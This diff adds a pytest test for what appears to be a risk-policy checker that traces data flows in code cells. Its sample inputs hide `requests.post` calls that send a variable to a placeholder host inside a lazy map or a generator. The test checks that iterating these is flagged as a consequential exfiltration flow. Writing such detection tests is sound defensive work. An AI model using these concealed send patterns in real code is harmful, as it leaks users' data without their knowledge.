@@ -186,3 +186,13 @@ def test_other_ways_to_keep_a_sender_send_when_called(case: str) -> None:
     cell, earlier = RED_TEAM[case]
     assert EVIL in _flows(cell, *earlier, KEEP)
     assert _policy(cell, None, *earlier, KEEP)[0] == Risk.CONSEQUENTIAL
+
+
+@pytest.mark.parametrize("kept", [f"r = map(lambda x: requests.post('{A}', data=x), [t])",
+                                  f"r = (requests.post('{A}', data=x) for x in [t])"])
+def test_iterating_a_lazy_map_or_generator_of_sends_sends(kept: str) -> None:
+    for cell in ("print(list(r))", "for x in r:\n    pass", "next(r)"):
+        assert EVIL in _flows(cell, RQ, KEEP, kept), (kept, cell)
+    # a lazy map of a function that sends nothing, iterated
+    assert _flows("print(list(r))", RQ, KEEP, "r = map(len, [t])") == []
+    assert _policy("print(list(r))", None, RQ, KEEP, "r = map(len, [t])") == (Risk.REVERSIBLE, [])
